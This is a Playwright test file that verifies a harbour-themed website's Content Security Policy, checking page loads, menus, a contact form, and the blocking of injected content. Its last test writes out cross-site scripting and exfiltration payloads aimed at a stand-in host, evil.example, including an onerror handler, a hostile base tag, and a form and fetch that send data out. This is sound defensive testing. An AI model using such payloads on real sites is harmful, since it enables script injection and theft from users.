import type { Page } from 'playwright'
import { describe } from 'vitest'
import { briefRouteRounds, missingRound } from '../company/routes.ts'
import { rounds } from '../rounds.ts'
import { expect, hydrated, origin, test, visitMissing } from './set-up/visit.ts'

/** Records the violations of the policy on every page opened from now on; the list grows. */
async function refusalsOf(page: Page): Promise<string[]> {
  const refusals: string[] = []
  await page.exposeFunction('onRefusal', (text: string) => refusals.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, documentURI }) =>
      (window as unknown as { onRefusal: (text: string) => void }).onRefusal(
        `${documentURI}: ${effectiveDirective} ${blockedURI}`,
      ),
    )
  })
  return refusals
}

describe('under its content security policy', () => {
  for (const { cases, options } of [...briefRouteRounds, missingRound])
    test.for(cases)(
      '%s loads, hydrates and shows its photos without a violation',
      options,
      async (route, { visit }) => {
        const page = await visitMissing(visit, '')
        const refusals = await refusalsOf(page)
        const response = await page.goto(route)
        const policy = response?.headers()['content-security-policy'] ?? ''
        expect(policy).toContain("script-src 'self';")
        expect(policy).not.toMatch(/script-src[^;]*unsafe|unsafe-eval|\*|style-src [^;]*unsafe/)
        await hydrated(page)
        await page.evaluate(() => {
          for (const image of document.images) image.loading = 'eager'
        })
        await page.waitForFunction(() => [...document.images].every(({ complete }) => complete))
        await expect(page.locator('img[data-missing]')).toHaveCount(0)
        expect(await page.locator('script:not([src], [type="application/ld+json"])').count()).toBe(0)
        expect(refusals).toEqual([])
      },
    )

  for (const { cases, options } of rounds([390], [1440]))
    test.for(cases)('menus, forms and in-site navigation work, %i pixels wide', options, async (width, { visit }) => {
      const page = await visit('', { width })
      const refusals = await refusalsOf(page)
      await page.goto('/')
      await hydrated(page)
      const header = page.getByRole('banner')
      const menu = width < 600 ? header.locator('[popovertarget]') : header.getByRole('button', { name: /^Harbours/ })
      await menu.click()
      await expect(menu).toHaveAttribute('aria-expanded', 'true')
      await header.getByRole('link', { name: 'Skerry Bay' }).filter({ visible: true }).first().click()
      await expect(page).toHaveURL('/harbours/skerry-bay')
      await page.goBack()
      await page.locator('#hail').getByLabel('Your name').fill('Ana')
      await page.locator('#hail').getByLabel('Your e-mail').fill('ana@example.com')
      await page.locator('#hail').getByRole('button', { name: 'Send the note' }).click()
      await expect(page.locator('#hail').getByRole('status')).toContainText('Aye!')
      expect(refusals).toEqual([])
    })

  test('injected elements do not run, load or send anything', { tags: ['slow'] }, async ({ visit }) => {
    const page = await visit('', { expected: [/Content Security Policy|Refused|violates/i] })
    const refusals = await refusalsOf(page)
    await page.goto('/')
    await page.evaluate(() => {
      const put = (name: string, attributes: object) =>
        document.body.append(Object.assign(document.createElement(name), attributes))
      put('script', { textContent: 'window.pwned = 1' })
      put('script', { src: 'https://evil.example/x.js' })
      put('script', { src: 'data:text/javascript,window.pwned=1' })
      put('style', { textContent: 'body { display: none }' })
      put('img', { src: 'https://evil.example/x.png' })
      put('iframe', { src: '/work' })
      put('object', { data: '/favicon.svg' })
      put('base', { href: 'https://evil.example/' })
      put('div', { innerHTML: '<img src="data:," onerror="window.pwned = 1">' })
      put('form', { action: 'https://evil.example/', method: 'post', id: 'evil' })
      ;(document.getElementById('evil') as HTMLFormElement).submit()
      fetch('https://evil.example/').catch(() => {})
    })
    const directives = ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src'].concat(
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    )
    await expect
      .poll(() => [...new Set(refusals.map((text) => text.replace(/^\S+ (\S+).*/, '$1')))].toSorted())
      .toEqual(directives)
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    await expect(page.locator('body')).toBeVisible()
    await expect(page).toHaveURL(`${origin}/`)
  })
})
